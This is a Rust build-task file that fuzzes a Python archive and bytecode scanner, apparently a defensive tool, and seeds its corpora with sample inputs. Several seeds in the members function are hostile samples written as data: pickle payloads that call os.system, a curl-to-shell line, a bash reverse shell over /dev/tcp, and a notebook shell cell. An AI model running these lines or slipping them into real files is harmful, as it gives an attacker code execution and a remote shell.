//! `cargo xtask fuzz`: runs the fuzz targets in `fuzz/`, a minute each. It installs cargo-fuzz below
//! the target folder first. Outside CI: what it finds depends on luck, and becomes a test.

use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::Context;

use super::{check, target_directory};

/// The pinned version of cargo-fuzz.
const CARGO_FUZZ: &str = "0.13.2";
/// The targets, and the corpus that each is seeded with.
const TARGETS: [&str; 4] = ["archive", "python", "bytecode", "members"];
/// A single input may take so long, in seconds: budgets are steps and bytes, and sanitizers are slow.
const SLOWEST: u32 = 20;
/// A single input may use so much memory, in MiB.
const MEMORY: u32 = 4096;

#[derive(clap::Args)]
pub(crate) struct Args {
    /// Only this target [default: all]
    target: Option<String>,
    /// Seconds for each
    #[arg(long, default_value_t = 60)]
    seconds: u32,
    /// A folder of innocent archives and `.pyc` files to begin with
    #[arg(long)]
    seeds: Option<PathBuf>,
}

pub(crate) fn run(args: &Args) -> anyhow::Result<()> {
    let target = target_directory()?;
    let cargo_fuzz = install(&target)?;
    for name in TARGETS {
        if args.target.as_deref().is_some_and(|wanted| wanted != name) {
            continue;
        }
        let corpus = target.join("fuzz-corpus").join(name);
        std::fs::create_dir_all(&corpus).with_context(|| corpus.display().to_string())?;
        seed(name, &corpus, args.seeds.as_deref())?;
        println!("fuzz: {name}, {} s", args.seconds);
        let mut command = Command::new(&cargo_fuzz);
        // The stable compiler takes the unstable options that sanitizers need.
        command.env("RUSTC_BOOTSTRAP", "1").env("CARGO_TARGET_DIR", target.join("fuzz"));
        command.args(["fuzz", "run", name]).arg(&corpus).arg("--");
        command.arg(format!("-max_total_time={}", args.seconds));
        command.arg(format!("-timeout={SLOWEST}")).arg(format!("-rss_limit_mb={MEMORY}"));
        check(&mut command)?;
    }
    Ok(())
}

fn install(target: &Path) -> anyhow::Result<PathBuf> {
    let tools = target.join("fuzz-tools");
    let installed = tools.join("bin/cargo-fuzz");
    let said = Command::new(&installed).args(["fuzz", "--version"]).output();
    let wanted = format!("cargo-fuzz {CARGO_FUZZ}");
    if !said.is_ok_and(|output| String::from_utf8_lossy(&output.stdout).trim() == wanted) {
        println!("fuzz: installing {wanted} into {}", tools.display());
        let mut install = Command::new("cargo");
        install.args(["install", "--quiet", "--locked", "--force", "cargo-fuzz", "--version", CARGO_FUZZ]);
        check(install.arg("--root").arg(&tools))?;
    }
    Ok(installed)
}

/// What a corpus begins with: the samples of the rules' documentation and of the testkit are text;
/// archives and bytecode come from a folder.
fn seed(name: &str, corpus: &Path, seeds: Option<&Path>) -> anyhow::Result<()> {
    if name == "python" {
        for rule in fondaco_rules::all() {
            let docs = fondaco_rules::explain(rule.id.as_str()).unwrap_or_default();
            for (at, example) in docs.split("```").skip(1).step_by(2).enumerate() {
                let text = example.split_once('\n').map_or(example, |(_, text)| text);
                std::fs::write(corpus.join(format!("{}-{at}", rule.id)), text)?;
            }
        }
    }
    if name == "members" {
        members(corpus)?;
    }
    let Some(folder) = seeds else { return Ok(()) };
    for entry in std::fs::read_dir(folder).with_context(|| folder.display().to_string())? {
        let path = entry?.path();
        let is_bytecode = path.extension().is_some_and(|extension| extension == "pyc");
        let small = std::fs::metadata(&path)?.len() < 64 << 10;
        let fits = path.is_file() && small && if name == "archive" { !is_bytecode } else { is_bytecode };
        let wants = matches!(name, "archive" | "bytecode");
        if let (true, true, Some(file_name)) = (wants, fits, path.file_name()) {
            std::fs::copy(&path, corpus.join(file_name))?;
        }
    }
    Ok(())
}

/// A first byte that picks the reader, and something that it reads.
fn members(corpus: &Path) -> anyhow::Result<()> {
    let seeds: [(&str, u8, &[u8]); 8] = [
        ("pickle", 0, b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."),
        ("pickle-0", 0, b"cposix\nsystem\n(S'id'\ntR."),
        ("elf", 1, b"\x7fELF\x02\x01\x01\0"),
        ("gif", 2, b"GIF89a\x01\0\x01\0\0\0\0;#!/bin/sh\n"),
        ("notebook", 3, br#"{"cells": [{"cell_type": "code", "source": ["!id\n", "x = 1"]}]}"#),
        ("record", 4, b"a.py,sha256=AAAA,1\nb.py,,\n"),
        ("script", 6, b"#!/bin/sh\ncurl x | sh\nbash -i >& /dev/tcp/x/1 0>&1\n"),
        ("settings", 7, br#"{"scripts": {"preinstall": "x"}, "tasks": [{"command": "y"}],} // z"#),
    ];
    for (name, pick, bytes) in seeds {
        std::fs::write(corpus.join(name), [&[pick], bytes].concat())?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::TARGETS;
    use crate::tasks::root;

    #[test]
    fn every_target_is_in_the_manifest() {
        let manifest = std::fs::read_to_string(root().join("fuzz/Cargo.toml")).unwrap_or_default();
        for name in TARGETS {
            assert!(manifest.contains(&format!("name = \"{name}\"")), "{name}");
            assert!(root().join(format!("fuzz/fuzz_targets/{name}.rs")).exists(), "{name}");
        }
    }
}
